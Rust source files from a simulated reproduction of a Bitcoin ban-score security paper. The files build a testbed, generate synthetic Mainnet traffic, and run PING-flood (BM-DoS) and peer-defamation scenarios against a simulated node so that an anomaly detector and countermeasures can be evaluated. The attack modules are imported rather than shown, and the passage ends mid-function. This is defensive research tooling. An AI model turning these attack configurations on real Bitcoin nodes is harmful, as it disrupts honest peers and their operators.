            if dos.detection.anomalous { "yes" } else { "MISS" },
            dos.latency_s,
            if def.detection.anomalous { "yes" } else { "MISS" },
            def.latency_s,
            dropped,
            rtx,
        );
    }
    let _ = writeln!(
        out,
        "attack recall {:.2}  false-positive rate {:.2} over {} grid points",
        r.attack_recall(),
        r.false_positive_rate(),
        r.points.len()
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_cfg(grid: Vec<FaultPoint>) -> FaultMatrixConfig {
        FaultMatrixConfig {
            train: 8 * MINUTES,
            window: MINUTES,
            test: 2 * MINUTES,
            innocents: 6,
            grid,
        }
    }

    #[test]
    fn clean_point_matches_detector_expectations() {
        let r = run_fault_matrix(&tiny_cfg(vec![FaultPoint::CLEAN]));
        let p = &r.points[0];
        assert!(!p.false_positive(), "{:?}", p.case("normal").detection);
        assert_eq!(p.attacks_detected(), 2, "{:?}", p);
        // No faults ⇒ the fault layer never acted.
        for c in &p.cases {
            assert_eq!(c.fault_stats, FaultStats::default());
        }
    }

    #[test]
    fn loss_throttles_the_flood() {
        let r = run_fault_matrix(&tiny_cfg(vec![
            FaultPoint::CLEAN,
            FaultPoint {
                loss: 0.1,
                ..FaultPoint::CLEAN
            },
        ]));
        let clean = r.points[0].case("bm-dos").detection.n;
        let lossy_case = r.points[1].case("bm-dos");
        // The reliable transport retransmits but goodput drops: the
        // observed flood rate drifts down.
        assert!(lossy_case.fault_stats.dropped_loss > 0);
        assert!(lossy_case.retransmits > 0);
        assert!(
            lossy_case.detection.n < clean,
            "loss did not attenuate the flood: {} vs {}",
            lossy_case.detection.n,
            clean
        );
    }

    #[test]
    fn churn_raises_honest_reconnect_rate() {
        let r = run_fault_matrix(&tiny_cfg(vec![
            FaultPoint::CLEAN,
            FaultPoint {
                churn_fpm: 5,
                ..FaultPoint::CLEAN
            },
        ]));
        let calm = r.points[0].case("normal").detection.c;
        let churned = r.points[1].case("normal").detection.c;
        assert!(
            churned > calm,
            "flaps produced no extra reconnects: {churned} vs {calm}"
        );
    }

    #[test]
    fn same_config_is_deterministic() {
        let cfg = tiny_cfg(vec![FaultPoint {
            loss: 0.05,
            jitter: 2 * MILLIS,
            churn_fpm: 5,
        }]);
        let a = render_fault_matrix(&run_fault_matrix(&cfg));
        let b = render_fault_matrix(&run_fault_matrix(&cfg));
        assert_eq!(a, b);
    }
}
