//! Figure 10: anomaly detection — train the statistical engine on normal
//! synthetic-Mainnet traffic, then compare the normal, under-BM-DoS and
//! under-Defamation message distributions and detection verdicts.

use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::defamation::PostConnDefamer;
use btc_attack::flood::{FloodConfig, Flooder};
use btc_attack::payload::FloodPayload;
use btc_detect::engine::{AnalysisEngine, Detection, Profile};
use btc_detect::features::{correlation, TrafficWindow};
use btc_netsim::sim::{HostConfig, TapFilter};
use btc_netsim::time::{Nanos, MINUTES, SECS};

/// One evaluated case.
#[derive(Clone, Debug)]
pub struct Fig10Case {
    /// "normal", "bm-dos" or "defamation".
    pub name: &'static str,
    /// Aggregate test window.
    pub window: TrafficWindow,
    /// Correlation against the trained reference.
    pub rho: f64,
    /// Detection verdict.
    pub detection: Detection,
}

/// The full Figure-10 result.
#[derive(Clone, Debug)]
pub struct Fig10Result {
    /// Trained profile (τ_n, τ_c, τ_Λ, reference distribution).
    pub profile: Profile,
    /// The three cases.
    pub cases: Vec<Fig10Case>,
}

/// Scenario knobs (virtual durations; the paper trains ~35 h and windows
/// at 10 minutes — the `repro` binary uses larger values than the tests).
#[derive(Clone, Copy, Debug)]
pub struct Fig10Config {
    /// Training duration.
    pub train: Nanos,
    /// Detection window length.
    pub window: Nanos,
    /// Test duration per case.
    pub test: Nanos,
    /// Innocent outbound peers available to the target in the defamation
    /// case.
    pub innocents: usize,
}

impl Default for Fig10Config {
    fn default() -> Self {
        Fig10Config {
            train: 60 * MINUTES,
            window: 10 * MINUTES,
            test: 10 * MINUTES,
            innocents: 40,
        }
    }
}

fn normal_testbed(innocents: usize, target_outbound: usize, seed: u64) -> Testbed {
    Testbed::build(TestbedConfig {
        feeders: 3,
        innocents,
        target_outbound,
        seed,
        ..TestbedConfig::default()
    })
}

/// The evaluated cases in presentation order.
pub const CASES: [&str; 3] = ["normal", "bm-dos", "defamation"];

/// The settle period every case discards (the handshake minute).
pub const SETTLE: Nanos = MINUTES;

/// Builds and runs one case's testbed for `settle + test` of virtual
/// time, returning it with the telemetry still inside — the `serve`
/// scenario replays the same recorded traffic event by event. Each case
/// has its own fixed seed, so the result is independent of which thread
/// (or order) runs it.
///
/// # Panics
///
/// Panics on an unknown case name.
pub fn run_case_testbed(name: &str, cfg: &Fig10Config) -> Testbed {
    match name {
        // Clean test traffic (fresh seed).
        "normal" => {
            let mut tb = normal_testbed(0, 0, 2);
            tb.sim.run_for(SETTLE + cfg.test);
            tb
        }
        // Under BM-DoS (PING flood on top of normal traffic).
        "bm-dos" => {
            let mut tb = normal_testbed(0, 0, 3);
            tb.sim.add_host(
                addrs::ATTACKER,
                Box::new(Flooder::new(FloodConfig {
                    target: tb.target_addr,
                    payload: FloodPayload::Ping,
                    ..FloodConfig::default()
                })),
                HostConfig::default(),
            );
            tb.sim.run_for(SETTLE + cfg.test);
            tb
        }
        // Under Defamation of the target's outbound peers.
        "defamation" => {
            let mut tb = normal_testbed(cfg.innocents, 2, 4);
            let tap = tb.sim.add_tap(TapFilter::Host(addrs::TARGET));
            let victim_ips = tb.innocent_ips.clone();
            let mut defamer = PostConnDefamer::new(tb.target_addr, victim_ips, tap);
            // Pace the strikes so the defamation spans the whole measurement
            // window (each wave hits both live outbound peers): ~6 bans/minute,
            // the order of the paper's measured c = 5.3/min.
            defamer.poll = 20 * SECS;
            tb.sim.add_host(addrs::ATTACKER, Box::new(defamer), HostConfig::default());
            tb.sim.run_for(SETTLE + cfg.test);
            tb
        }
        other => panic!("unknown case {other}"),
    }
}

/// Builds, runs and reduces one case's testbed to its aggregate test
/// window.
fn run_case_window(name: &str, cfg: &Fig10Config) -> TrafficWindow {
    run_case_testbed(name, cfg).single_window(SETTLE, SETTLE + cfg.test)
}

/// Builds and runs the clean training testbed for `cfg.train` of virtual
/// time (seed 1 — distinct from every evaluation case). Shared with the
/// `serve` scenario so the streaming detector trains on the exact same
/// recorded traffic as the batch engine.
pub fn run_training_testbed(cfg: &Fig10Config) -> Testbed {
    let mut tb = normal_testbed(0, 0, 1);
    tb.sim.run_for(cfg.train);
    tb
}

/// Runs the Figure-10 study.
pub fn run_fig10(cfg: Fig10Config) -> Fig10Result {
    run_fig10_jobs(cfg, 1)
}

/// [`run_fig10`] with the three evaluation cases fanned across `jobs`
/// workers (training stays serial — every case depends on the profile).
pub fn run_fig10_jobs(cfg: Fig10Config, jobs: usize) -> Fig10Result {
    let engine = AnalysisEngine::default();
    // ---- Training on clean traffic.
    let tb = run_training_testbed(&cfg);
    let windows = tb.windows(SETTLE, cfg.train, cfg.window);
    let profile = engine.train(&windows).expect("training windows");

    let cases = btc_par::par_map(jobs, CASES.to_vec(), |name| {
        let window = run_case_window(name, &cfg);
        case(name, &engine, &profile, window)
    });
    Fig10Result { profile, cases }
}

fn case(
    name: &'static str,
    engine: &AnalysisEngine,
    profile: &Profile,
    window: TrafficWindow,
) -> Fig10Case {
    let rho = correlation(&window.distribution(), &profile.reference);
    let detection = engine.detect(profile, &window);
    Fig10Case {
        name,
        window,
        rho,
        detection,
    }
}

/// Renders the Figure-10 study as text.
pub fn render_fig10(r: &Fig10Result) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "Trained profile: τ_n = [{:.0}, {:.0}] msg/min, τ_c = [0, {:.1}]/min, τ_Λ = {:.3}",
        r.profile.tau_n.0, r.profile.tau_n.1, r.profile.tau_c.1, r.profile.tau_lambda
    )
    .unwrap();
    for c in &r.cases {
        writeln!(
            out,
            "{:<11} n = {:>8.0}/min  c = {:>5.2}/min  ρ = {:>6.3}  → {}",
            c.name,
            c.detection.n,
            c.detection.c,
            c.rho,
            if c.detection.anomalous {
                format!("ANOMALOUS {:?}", c.detection.violations)
            } else {
                "normal".to_owned()
            }
        )
        .unwrap();
        // Top message types of the case's distribution.
        let mut dist: Vec<(usize, f64)> = c
            .window
            .distribution()
            .iter()
            .copied()
            .enumerate()
            .filter(|(_, v)| *v > 0.01)
            .collect();
        dist.sort_by(|a, b| b.1.partial_cmp(&a.1).expect("no NaN"));
        for (idx, share) in dist.iter().take(5) {
            writeln!(
                out,
                "             {:>10}: {:>5.1}%",
                btc_wire::message::ALL_COMMANDS[*idx],
                share * 100.0
            )
            .unwrap();
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quick_cfg() -> Fig10Config {
        Fig10Config {
            train: 20 * MINUTES,
            window: 5 * MINUTES,
            test: 4 * MINUTES,
            innocents: 25,
        }
    }

    #[test]
    fn fig10_detects_both_attacks_and_passes_normal() {
        let r = run_fig10(quick_cfg());
        let get = |n: &str| r.cases.iter().find(|c| c.name == n).expect("case");
        let normal = get("normal");
        assert!(!normal.detection.anomalous, "{:?}", normal.detection);
        assert!(normal.rho > r.profile.tau_lambda);

        let bmdos = get("bm-dos");
        assert!(bmdos.detection.anomalous);
        // PING dominates (paper: 94.16%), correlation collapses (paper:
        // 0.05), rate explodes (paper: ~15000/min).
        let ping_share = bmdos.window.distribution()
            [btc_node::metrics::msg_type_id("ping").unwrap() as usize];
        assert!(ping_share > 0.85, "ping share {ping_share}");
        assert!(bmdos.rho < 0.3, "rho {}", bmdos.rho);
        assert!(bmdos.detection.n > 10_000.0, "n {}", bmdos.detection.n);

        let defam = get("defamation");
        assert!(defam.detection.anomalous, "{:?}", defam.detection);
        // Reconnection rate exceeds τ_c; correlation stays moderate-high
        // (paper: c = 5.3, ρ = 0.88).
        assert!(
            defam
                .detection
                .violations
                .contains(&btc_detect::engine::Violation::ReconnectRate),
            "{:?}",
            defam.detection
        );
        assert!(defam.rho > 0.5, "rho {}", defam.rho);
        assert!(defam.rho < bmdos.rho + 1.0 && defam.rho > bmdos.rho, "defamation ρ should exceed BM-DoS ρ");
    }

    #[test]
    fn render_includes_thresholds_and_cases() {
        let r = run_fig10(quick_cfg());
        let t = render_fig10(&r);
        assert!(t.contains("τ_Λ"));
        assert!(t.contains("bm-dos"));
        assert!(t.contains("defamation"));
    }
}
