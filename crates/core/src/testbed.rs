//! The experiment testbed: builds the paper's §V setup — a target node,
//! synthetic Mainnet feeders, optional innocent peers, and a reserved slot
//! for the attacker — inside the deterministic simulator.

use crate::mainnet::MainnetPeer;
use btc_detect::features::TrafficWindow;
use btc_netsim::faults::{FaultPlan, LinkFaults};
use btc_netsim::packet::{Ipv4, SockAddr};
use btc_netsim::sim::{HostConfig, SimConfig, Simulator};
use btc_netsim::time::Nanos;
use btc_node::node::{Node, NodeConfig};

/// Well-known testbed addresses.
pub mod addrs {
    use btc_netsim::packet::Ipv4;

    /// The target node.
    pub const TARGET: Ipv4 = [10, 0, 0, 1];
    /// The attacker host (added by the scenario).
    pub const ATTACKER: Ipv4 = [10, 0, 9, 9];

    /// The `i`-th mainnet feeder.
    pub fn feeder(i: usize) -> Ipv4 {
        [10, 0, 1, (i + 1) as u8]
    }

    /// The `i`-th innocent peer.
    pub fn innocent(i: usize) -> Ipv4 {
        [10, 0, 2 + (i / 250) as u8, (i % 250 + 1) as u8]
    }
}

/// Testbed configuration.
#[derive(Clone, Debug)]
pub struct TestbedConfig {
    /// Target node configuration (outbound targets are filled in from the
    /// innocents automatically).
    pub node: NodeConfig,
    /// Synthetic Mainnet feeders dialing the target.
    pub feeders: usize,
    /// Innocent listening nodes the target can dial.
    pub innocents: usize,
    /// How many outbound connections the target maintains.
    pub target_outbound: usize,
    /// Simulator seed.
    pub seed: u64,
    /// Per-link fault model (loss/jitter/reordering). Anything active
    /// auto-enables the simulator's reliable transport.
    pub faults: LinkFaults,
    /// Scheduled partitions and link flaps.
    pub fault_plan: FaultPlan,
}

impl Default for TestbedConfig {
    fn default() -> Self {
        TestbedConfig {
            node: NodeConfig::default(),
            feeders: 3,
            innocents: 0,
            target_outbound: 0,
            seed: 0xB17C_0123,
            faults: LinkFaults::NONE,
            fault_plan: FaultPlan::none(),
        }
    }
}

/// A built testbed.
pub struct Testbed {
    /// The simulator (attacker hosts may still be added).
    pub sim: Simulator,
    /// Target IP.
    pub target: Ipv4,
    /// Target `[IP:Port]`.
    pub target_addr: SockAddr,
    /// Feeder IPs.
    pub feeder_ips: Vec<Ipv4>,
    /// Innocent IPs.
    pub innocent_ips: Vec<Ipv4>,
}

impl Testbed {
    /// Builds the testbed.
    ///
    /// # Panics
    ///
    /// Panics when more innocents are requested than the address plan
    /// supports (500).
    pub fn build(cfg: TestbedConfig) -> Testbed {
        assert!(cfg.innocents <= 500, "too many innocents");
        let mut sim = Simulator::new(SimConfig {
            seed: cfg.seed,
            faults: cfg.faults,
            ..SimConfig::default()
        });
        if !cfg.fault_plan.is_none() {
            sim.set_fault_plan(cfg.fault_plan.clone());
        }
        let target_addr = SockAddr::new(addrs::TARGET, cfg.node.listen_port);
        let innocent_ips: Vec<Ipv4> = (0..cfg.innocents).map(addrs::innocent).collect();
        // Innocent peers first so they are listening before the target dials.
        for ip in &innocent_ips {
            sim.add_host(
                *ip,
                Box::new(Node::new(NodeConfig::default())),
                HostConfig::default(),
            );
        }
        let mut node_cfg = cfg.node.clone();
        node_cfg.target_outbound = cfg.target_outbound;
        node_cfg.outbound_targets = innocent_ips
            .iter()
            .map(|ip| SockAddr::new(*ip, 8333))
            .collect();
        sim.add_host(addrs::TARGET, Box::new(Node::new(node_cfg)), HostConfig::default());
        let feeder_ips: Vec<Ipv4> = (0..cfg.feeders).map(addrs::feeder).collect();
        for ip in &feeder_ips {
            sim.add_host(
                *ip,
                Box::new(MainnetPeer::new(target_addr)),
                HostConfig::default(),
            );
        }
        Testbed {
            sim,
            target: addrs::TARGET,
            target_addr,
            feeder_ips,
            innocent_ips,
        }
    }

    /// Borrow the target node.
    ///
    /// # Panics
    ///
    /// Panics if the target host was removed (it never is).
    pub fn target_node(&self) -> &Node {
        self.sim.app(self.target).expect("target is a Node")
    }

    /// Mutably borrow the target node.
    pub fn target_node_mut(&mut self) -> &mut Node {
        self.sim.app_mut(self.target).expect("target is a Node")
    }

    /// Cuts the target's telemetry into detection windows.
    pub fn windows(&self, start: Nanos, end: Nanos, window_len: Nanos) -> Vec<TrafficWindow> {
        crate::windows::windows_from_telemetry(&self.target_node().telemetry, start, end, window_len)
    }

    /// Aggregates a span of the target's telemetry into one window.
    pub fn single_window(&self, start: Nanos, end: Nanos) -> TrafficWindow {
        crate::windows::single_window(&self.target_node().telemetry, start, end)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::time::{MINUTES, SECS};

    #[test]
    fn default_testbed_runs_clean() {
        let mut tb = Testbed::build(TestbedConfig::default());
        tb.sim.run_for(2 * MINUTES);
        let node = tb.target_node();
        assert_eq!(node.inbound_count(), 3, "three feeders connected");
        assert_eq!(node.telemetry.bans, 0);
        assert!(node.telemetry.messages.len() > 100);
    }

    #[test]
    fn testbed_with_innocents_fills_outbound() {
        let mut tb = Testbed::build(TestbedConfig {
            innocents: 4,
            target_outbound: 2,
            ..TestbedConfig::default()
        });
        tb.sim.run_for(5 * SECS);
        let node = tb.target_node();
        assert_eq!(node.outbound_count(), 2);
    }

    #[test]
    fn windows_cover_the_run() {
        let mut tb = Testbed::build(TestbedConfig::default());
        tb.sim.run_for(4 * MINUTES);
        let w = tb.windows(0, 4 * MINUTES, 2 * MINUTES);
        assert_eq!(w.len(), 2);
        assert!(w.iter().all(|w| w.total() > 0));
    }

    #[test]
    fn deterministic_for_seed() {
        let run = |seed| {
            let mut tb = Testbed::build(TestbedConfig {
                seed,
                ..TestbedConfig::default()
            });
            tb.sim.run_for(MINUTES);
            tb.target_node().telemetry.messages.len()
        };
        assert_eq!(run(1), run(1));
        assert_ne!(run(1), run(2));
    }
}
