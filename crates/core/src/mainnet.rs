//! A calibrated synthetic "Bitcoin Mainnet" peer.
//!
//! The paper trains its detector on ~35 hours of real Mainnet traffic with
//! a normal arrival rate of 252–390 messages/minute. We have no Mainnet
//! uplink, so this app generates the equivalent: a Poisson mix of
//! transaction announcements (`INV` → `GETDATA` → `TX`), keepalive pings
//! and address gossip, calibrated so that three feeders put the target
//! into the paper's normal band (see DESIGN.md, substitution table).

use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{App, Ctx};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::{from_secs_f64, Nanos, MINUTES};
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{decode_frame, Message, RawMessage, VersionMessage};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::{Hash256, InvType, Inventory, NetAddr, Network, TimestampedAddr};
use std::any::Any;
use std::collections::BTreeMap;

/// Per-feeder message rates (events per minute).
#[derive(Clone, Copy, Debug)]
pub struct TrafficMix {
    /// Transaction announcements per minute (each produces an `INV` and,
    /// after the target's `GETDATA`, a `TX`).
    pub tx_per_min: f64,
    /// Pings per minute.
    pub ping_per_min: f64,
    /// `ADDR` gossip messages per minute.
    pub addr_per_min: f64,
}

impl Default for TrafficMix {
    fn default() -> Self {
        // 3 feeders × (2×40 + 15 + 5) = 300 msg/min at the target — inside
        // the paper's observed 252–390 band.
        TrafficMix {
            tx_per_min: 40.0,
            ping_per_min: 15.0,
            addr_per_min: 5.0,
        }
    }
}

mod timers {
    pub const TX: u64 = 1;
    pub const PING: u64 = 2;
    pub const ADDR: u64 = 3;
}

/// The synthetic mainnet feeder app.
pub struct MainnetPeer {
    /// Who to feed.
    pub target: SockAddr,
    /// Message mix.
    pub mix: TrafficMix,
    /// Network magic.
    pub network: Network,
    /// Messages sent so far.
    pub sent: u64,
    conn: Option<ConnId>,
    handshaked: bool,
    frames: FrameAssembler,
    txs: BTreeMap<Hash256, Transaction>,
    tx_counter: u64,
}

impl MainnetPeer {
    /// Creates a feeder for `target`.
    pub fn new(target: SockAddr) -> Self {
        MainnetPeer {
            target,
            mix: TrafficMix::default(),
            network: Network::Regtest,
            sent: 0,
            conn: None,
            handshaked: false,
            frames: FrameAssembler::new(Network::Regtest),
            txs: BTreeMap::new(),
            tx_counter: 0,
        }
    }

    fn send_msg(&mut self, ctx: &mut Ctx<'_>, msg: &Message) {
        if let Some(conn) = self.conn {
            let bytes = RawMessage::frame(self.network, msg).to_bytes();
            if ctx.send(conn, &bytes) {
                self.sent += 1;
            }
        }
    }

    fn schedule(&self, ctx: &mut Ctx<'_>, token: u64, per_min: f64) {
        if per_min <= 0.0 {
            return;
        }
        let mean_secs = 60.0 / per_min;
        let wait = ctx.rng().exponential(mean_secs);
        ctx.set_timer(from_secs_f64(wait.clamp(0.001, 600.0)), token);
    }

    fn fresh_tx(&mut self, ctx: &mut Ctx<'_>) -> Transaction {
        self.tx_counter += 1;
        let salt = ctx.rng().next_u64();
        Transaction::new(
            2,
            vec![TxIn::new(OutPoint::new(
                Hash256::hash(&salt.to_le_bytes()),
                (self.tx_counter % 4) as u32,
            ))],
            vec![TxOut::new(
                1_000 + (salt % 100_000) as i64,
                vec![0x51],
            )],
            0,
        )
    }
}

impl App for MainnetPeer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.target));
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, peer: SockAddr, _inbound: bool) {
        self.conn = Some(conn);
        let local = ctx.local_of(conn).unwrap_or_default();
        let v = VersionMessage::new(
            NetAddr::new(local.ip, local.port),
            NetAddr::new(peer.ip, peer.port),
            ctx.rng().next_u64(),
        );
        let bytes = RawMessage::frame(self.network, &Message::Version(v)).to_bytes();
        ctx.send(conn, &bytes);
    }

    fn on_data(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, data: &[u8]) {
        self.frames.push(data);
        while let Some(raw) = self.frames.next_frame() {
            match decode_frame(&raw) {
                Ok(Message::Version(_)) => {
                    let bytes = RawMessage::frame(self.network, &Message::Verack).to_bytes();
                    ctx.send(conn, &bytes);
                }
                Ok(Message::Verack)
                    if !self.handshaked => {
                        self.handshaked = true;
                        self.schedule(ctx, timers::TX, self.mix.tx_per_min);
                        self.schedule(ctx, timers::PING, self.mix.ping_per_min);
                        self.schedule(ctx, timers::ADDR, self.mix.addr_per_min);
                    }
                Ok(Message::GetData(invs)) => {
                    // Serve the transactions we announced.
                    for inv in invs {
                        if let Some(tx) = self.txs.get(&inv.hash).cloned() {
                            self.send_msg(ctx, &Message::Tx(tx));
                        }
                    }
                }
                Ok(Message::Ping(n)) => {
                    self.send_msg(ctx, &Message::Pong(n));
                }
                _ => {}
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if !self.handshaked {
            return;
        }
        match token {
            timers::TX => {
                let tx = self.fresh_tx(ctx);
                let txid = tx.txid();
                self.txs.insert(txid, tx);
                // Bound the served-tx memory.
                if self.txs.len() > 10_000 {
                    let drop_key = *self.txs.keys().next().expect("nonempty");
                    self.txs.remove(&drop_key);
                }
                self.send_msg(ctx, &Message::Inv(vec![Inventory::new(InvType::Tx, txid)]));
                self.schedule(ctx, timers::TX, self.mix.tx_per_min);
            }
            timers::PING => {
                let n = ctx.rng().next_u64();
                self.send_msg(ctx, &Message::Ping(n));
                self.schedule(ctx, timers::PING, self.mix.ping_per_min);
            }
            timers::ADDR => {
                let count = 1 + ctx.rng().gen_range(10) as u32;
                let now_secs = (ctx.now() / btc_netsim::time::SECS) as u32;
                let addrs = (0..count)
                    .map(|i| TimestampedAddr {
                        time: now_secs,
                        addr: NetAddr::new(
                            [172, 16, (i >> 8) as u8, i as u8],
                            8333,
                        ),
                    })
                    .collect();
                self.send_msg(ctx, &Message::Addr(addrs));
                self.schedule(ctx, timers::ADDR, self.mix.addr_per_min);
            }
            _ => {}
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// The virtual time the paper spends training (≈35 hours).
pub const PAPER_TRAINING_DURATION: Nanos = 35 * 60 * MINUTES;

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::sim::{HostConfig, SimConfig, Simulator};
    use btc_netsim::time::SECS;
    use btc_node::node::{Node, NodeConfig};

    const TARGET: [u8; 4] = [10, 0, 0, 1];

    #[test]
    fn feeders_put_target_in_the_normal_band() {
        let mut sim = Simulator::new(SimConfig::default());
        sim.add_host(
            TARGET,
            Box::new(Node::new(NodeConfig::default())),
            HostConfig::default(),
        );
        for i in 0..3u8 {
            sim.add_host(
                [10, 0, 1, i + 1],
                Box::new(MainnetPeer::new(SockAddr::new(TARGET, 8333))),
                HostConfig::default(),
            );
        }
        // 10 minutes of virtual traffic.
        sim.run_for(10 * 60 * SECS);
        let node: &Node = sim.app(TARGET).unwrap();
        let total = node.telemetry.total_in_window(60 * SECS, 9 * 60 * SECS);
        let per_min = total as f64 / 8.0;
        assert!(
            (180.0..500.0).contains(&per_min),
            "message rate {per_min}/min"
        );
        // No feeder ever got punished: the traffic is clean.
        assert_eq!(node.telemetry.bans, 0);
        assert_eq!(node.tracker.tracked_peers(), 0);
        // TX and INV should dominate the distribution.
        let counts = node.telemetry.counts_in_window(0, 10 * 60 * SECS);
        let tx = counts[btc_node::metrics::msg_type_id("tx").unwrap() as usize];
        let inv = counts[btc_node::metrics::msg_type_id("inv").unwrap() as usize];
        let ping = counts[btc_node::metrics::msg_type_id("ping").unwrap() as usize];
        assert!(tx > ping && inv > ping, "tx {tx} inv {inv} ping {ping}");
    }
}
