//! # banscore
//!
//! The orchestration crate of the reproduction of *"The Security
//! Investigation of Ban Score and Misbehavior Tracking in Bitcoin
//! Network"* (ICDCS 2022): it wires the substrates ([`btc_netsim`],
//! [`btc_node`]) together with the attacks ([`btc_attack`]) and the
//! detection countermeasure ([`btc_detect`]) into the paper's testbed and
//! experiment scenarios.
//!
//! * [`testbed`] — the §V setup: target node, synthetic Mainnet feeders,
//!   innocent peers, attacker slot.
//! * [`mainnet`] — the calibrated background-traffic generator.
//! * [`contention`] — the CPU-contention model behind Figures 6/7 and
//!   Table III.
//! * [`scenario`] — runners for Figure 6, Table III/Figure 7, Figure 8 and
//!   Figure 10.
//! * [`countermeasure`] — §VIII: forgoing the ban score, good-score, and
//!   the authentication-overhead estimate.
//! * [`windows`] — telemetry → detection-window bridging (Figure 9's data
//!   path).
//!
//! ```no_run
//! use banscore::scenario::fig8::run_fig8;
//!
//! let result = run_fig8(4);
//! println!("time to ban: {:.3}s", result.time_to_ban_fast);
//! ```

#![warn(missing_docs)]

pub mod contention;
pub mod countermeasure;
pub mod mainnet;
pub mod scenario;
pub mod testbed;
pub mod windows;

pub use contention::ContentionModel;
pub use countermeasure::{auth_overhead, evaluate_countermeasures};
pub use testbed::{Testbed, TestbedConfig};
