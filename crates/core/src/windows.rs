//! Bridges node telemetry (the Monitor) to the detection engine's traffic
//! windows (the Dataset) — the data path of Figure 9.

use btc_detect::features::TrafficWindow;
use btc_netsim::time::{Nanos, MINUTES};
use btc_node::metrics::Telemetry;

/// Cuts `[start, end)` of a node's telemetry into consecutive windows of
/// `window_len` (the paper uses 10-minute windows). A trailing partial
/// window is discarded.
pub fn windows_from_telemetry(
    telemetry: &Telemetry,
    start: Nanos,
    end: Nanos,
    window_len: Nanos,
) -> Vec<TrafficWindow> {
    assert!(window_len > 0, "zero window length");
    let minutes = window_len as f64 / MINUTES as f64;
    let mut out = Vec::new();
    let mut at = start;
    while at + window_len <= end {
        let counts = telemetry.counts_in_window(at, at + window_len);
        let reconnects = telemetry.reconnects_in_window(at, at + window_len);
        out.push(TrafficWindow {
            counts,
            reconnects,
            minutes,
        });
        at += window_len;
    }
    out
}

/// Aggregates a whole span into a single window (used for the Figure-10
/// per-case distributions).
pub fn single_window(telemetry: &Telemetry, start: Nanos, end: Nanos) -> TrafficWindow {
    let minutes = (end.saturating_sub(start)) as f64 / MINUTES as f64;
    TrafficWindow {
        counts: telemetry.counts_in_window(start, end),
        reconnects: telemetry.reconnects_in_window(start, end),
        minutes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::packet::SockAddr;
    use btc_netsim::time::SECS;
    use btc_node::metrics::msg_type_id;

    fn telemetry_with(n: u64) -> Telemetry {
        let mut t = Telemetry::default();
        let ping = msg_type_id("ping").unwrap();
        let from = SockAddr::new([1, 1, 1, 1], 1);
        for i in 0..n {
            t.record_message(i * SECS, ping, 8, from);
        }
        t.record_reconnect(30 * SECS, from);
        t
    }

    #[test]
    fn cuts_consecutive_windows() {
        let t = telemetry_with(600);
        let w = windows_from_telemetry(&t, 0, 600 * SECS, 60 * SECS);
        assert_eq!(w.len(), 10);
        for win in &w {
            assert_eq!(win.total(), 60);
            assert_eq!(win.minutes, 1.0);
        }
        assert_eq!(w[0].reconnects, 1);
        assert_eq!(w[1].reconnects, 0);
    }

    #[test]
    fn partial_tail_discarded() {
        let t = telemetry_with(100);
        let w = windows_from_telemetry(&t, 0, 95 * SECS, 60 * SECS);
        assert_eq!(w.len(), 1);
    }

    #[test]
    fn single_window_aggregates() {
        let t = telemetry_with(600);
        let w = single_window(&t, 0, 600 * SECS);
        assert_eq!(w.total(), 600);
        assert_eq!(w.minutes, 10.0);
        assert_eq!(w.reconnects, 1);
        assert_eq!(w.message_rate(), 60.0);
    }
}
