//! §VIII: the potential countermeasures that *do* change the node —
//! forgoing the ban score (threshold → ∞ or fully disabled), the
//! good-score mechanism, and the authentication-overhead estimate.

use crate::testbed::{addrs, Testbed, TestbedConfig};
use btc_attack::defamation::PostConnDefamer;
use btc_netsim::sim::{HostConfig, TapFilter};
use btc_netsim::time::{MILLIS, SECS};
use btc_node::banscore::BanPolicy;
use btc_node::chain::mine_child;
use btc_node::node::NodeConfig;

/// Outcome of running the Defamation attack under one node policy.
#[derive(Clone, Debug, PartialEq)]
pub struct CounterOutcome {
    /// Policy name.
    pub policy: &'static str,
    /// Whether the innocent peer's identifier ended up banned.
    pub innocent_banned: bool,
    /// Whether the innocent peer was still connected at the end.
    pub innocent_connected: bool,
    /// The innocent identifier's final misbehavior score at the target.
    pub innocent_score: u32,
    /// Whether the misbehavior (the forged frames) was still *observed*.
    pub strikes_delivered: bool,
}

fn run_defamation_under(
    policy: BanPolicy,
    good_score: bool,
    name: &'static str,
) -> CounterOutcome {
    let mut tb = Testbed::build(TestbedConfig {
        feeders: 0,
        innocents: 1,
        target_outbound: 1,
        node: NodeConfig {
            ban_policy: policy,
            good_score,
            good_score_min_credit: 1,
            ..NodeConfig::default()
        },
        ..TestbedConfig::default()
    });
    let innocent_ip = tb.innocent_ips[0];
    // The attacker sniffs from the start (same-LAN promiscuous mode), but
    // under good-score it waits until the innocent has earned credit.
    let tap = tb.sim.add_tap(TapFilter::Host(addrs::TARGET));
    let mut defamer = PostConnDefamer::new(tb.target_addr, vec![innocent_ip], tap);
    defamer.poll = 50 * MILLIS;
    if good_score {
        defamer.start_after = 6 * SECS;
    }
    tb.sim.add_host(addrs::ATTACKER, Box::new(defamer), HostConfig::default());
    if good_score {
        // Let the innocent earn credit by relaying one valid block.
        tb.sim.run_for(2 * SECS);
        let innocent: &mut btc_node::Node = tb.sim.app_mut(innocent_ip).expect("innocent node");
        let tip = innocent.chain.tip();
        let hdr = innocent.chain.block(&tip).expect("genesis").header;
        innocent.submit_block(mine_child(&hdr, tip, 777, vec![]));
        tb.sim.run_for(3 * SECS);
    }
    tb.sim.run_for(10 * SECS);
    let strikes = {
        let d: &PostConnDefamer = tb.sim.app(addrs::ATTACKER).expect("defamer");
        !d.records.is_empty()
